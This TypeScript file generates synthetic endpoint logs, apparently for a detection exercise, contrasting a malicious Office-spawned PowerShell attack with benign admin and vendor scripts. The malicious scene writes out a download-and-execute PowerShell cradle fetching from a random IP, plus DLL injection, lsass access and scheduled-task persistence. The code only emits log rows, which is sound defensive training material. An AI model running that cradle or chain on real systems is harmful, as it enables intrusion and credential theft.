/** What the logs hold of scripts and tools that look like an attacker's. */
import { publicIp } from "../company.ts";
import { stableHash } from "../estate.ts";
import type { Program } from "../rows/deviceRows.ts";
import type { LogRow } from "../rows/row.ts";
import { securityEventRow } from "../rows/sensorRows.ts";
import { type OnHost, onHost } from "./sceneLog.ts";
import type { StoryContext } from "./story.ts";

export interface ProcessScene {
  readonly on: OnHost;
  /** The program that raised the alarm. */
  readonly run: Program;
  readonly ip: string;
  readonly rows: readonly LogRow[];
  readonly evidence: readonly LogRow[];
}

/** UTF-16 in base64, as PowerShell takes it. */
export const encoded = (script: string): string =>
  Buffer.from(script, "utf16le").toString("base64");

interface Run {
  readonly on: OnHost;
  readonly run: Program;
  readonly ip: string;
  readonly url: string;
  /** The file that the script writes, and what is done with it. */
  readonly wrote: string;
  readonly folder: string;
  readonly sha256: string;
  readonly task: string;
  /** What its access to other processes is about. */
  readonly access: string;
  readonly target: string;
}

/** The start, what it fetched, wrote, planned and touched: the same tables whoever did it. */
function traces({ company }: StoryContext, scene: Run): LogRow[] {
  const { on, run, ip, url, wrote, folder, sha256 } = scene;
  return [
    on.starts(3, run),
    securityEventRow(company, { at: on.at(3), user: on.user, host: on.host, started: run }),
    on.connects(4, { url, ip, by: run }),
    on.writes(5, {
      action: "FileCreated",
      name: wrote,
      folder,
      sha256,
      by: run,
      originUrl: `https://${url}/${wrote}`,
    }),
    on.loads(7, { file: wrote, folder, sha256, by: run }),
    on.senses(9, {
      action: "ScheduledTaskCreated",
      by: run,
      more: { TaskName: scene.task, TaskContent: `${folder}\\${wrote}` },
    }),
    on.senses(11, { action: scene.access, by: run, file: scene.target }),
  ];
}

/** A document starts a hidden script that fetches a payload, injects it and reads credentials. */
export function documentScript(context: StoryContext): ProcessScene {
  const { company, random } = context;
  const on = onHost(context, random.pick(company.users));
  const ip = publicIp(random);
  const script = `IEX (New-Object Net.WebClient).DownloadString('http://${ip}/${random.hex(6)}')`;
  const run = on.program(
    "powershell.exe",
    `powershell.exe -NoP -w hidden -enc ${encoded(script)}`,
    random.pick(["winword.exe", "excel.exe", "wscript.exe"]),
  );
  const folder = `C:\\Users\\Public`;
  const sha256 = random.hex(64);
  const evidence = traces(context, {
    on,
    run,
    ip,
    folder,
    sha256,
    url: `files-${random.hex(5)}.example`,
    wrote: `${random.hex(8)}.dll`,
    task: `\\Updater${random.int(100, 999)}`,
    access: "OpenProcessApiCall",
    target: "lsass.exe",
  });
  const injector = on.program(
    "rundll32.exe",
    `rundll32.exe ${folder}\\${random.hex(4)}.dll,Start`,
    run.file,
  );
  const more = [
    on.starts(6, injector, run),
    on.senses(8, { action: "CreateRemoteThreadApiCall", by: injector, file: "explorer.exe" }),
    ...[14, 24, 34].map((minute) => on.connects(minute, { ip, by: injector })),
  ];
  return { on, run, ip, evidence: [...evidence, ...more], rows: [...evidence, ...more] };
}

/** The administrator's own script, as every week: from the deployment system, to the management server. */
export function administration(context: StoryContext): ProcessScene {
  const { company, random } = context;
  const { operator, managementServer } = company.estate;
  const host = random.chance(0.5) ? operator.host : random.pick(company.users).host;
  const on = onHost(context, operator, host);
  const url = `deploy.${company.domain}`;
  const command = inventoryCommand(company.domain);
  const run = on.program("powershell.exe", command, "ccmexec.exe");
  const evidence = traces(context, {
    on,
    run,
    url,
    ip: company.officeIp,
    wrote: "inventory.dll",
    folder: "C:\\ProgramData\\Inventory",
    sha256: stableHash(`${company.name}/inventory.dll`),
    task: "\\Company\\WeeklyInventory",
    access: "OpenProcessApiCall",
    target: "svchost.exe",
  });
  const more = [
    on.logsOn(2, { type: "Network", from: managementServer, isAdmin: true }),
    on.starts(6, on.program("cmd.exe", "cmd.exe /c systeminfo", "powershell.exe"), run),
    on.senses(8, { action: "PowerShellCommand", by: run, file: "inventory.ps1" }),
  ];
  return { on, run, ip: company.officeIp, evidence, rows: [...evidence, ...more] };
}

/** The command of the weekly inventory: the same on every host. */
export const inventoryCommand = (domain: string): string =>
  `powershell.exe -ExecutionPolicy bypass -EncodedCommand ${encoded(
    `& '\\\\deploy.${domain}\\scripts\\inventory.ps1' -Collect All`,
  )}`;

/** A vendor's updater calls a script with a hidden window on every laptop; its monitor looks at other processes. */
export function vendorScript(context: StoryContext): ProcessScene {
  const { company, random } = context;
  const { updater } = company.estate;
  const on = onHost(context, random.pick(company.users));
  const run = on.program("powershell.exe", vendorCommand(updater.folder), updater.file);
  const evidence = traces(context, {
    on,
    run,
    url: updater.domain,
    ip: updater.ip,
    wrote: "harbourhook.dll",
    folder: updater.folder,
    sha256: stableHash(`${company.name}/harbourhook.dll`),
    task: "\\Harbour\\Update",
    access: "OpenProcessApiCall",
    target: "lsass.exe",
  });
  const more = [
    on.starts(6, on.program("cmd.exe", "cmd.exe /c ver", "powershell.exe"), run),
    on.senses(8, { action: "PowerShellCommand", by: run, file: "update.ps1" }),
  ];
  return { on, run, ip: updater.ip, evidence, rows: [...evidence, ...more] };
}

export const vendorCommand = (folder: string): string =>
  `powershell.exe -NoProfile -w hidden -ExecutionPolicy bypass -File ${folder}\\update.ps1`;
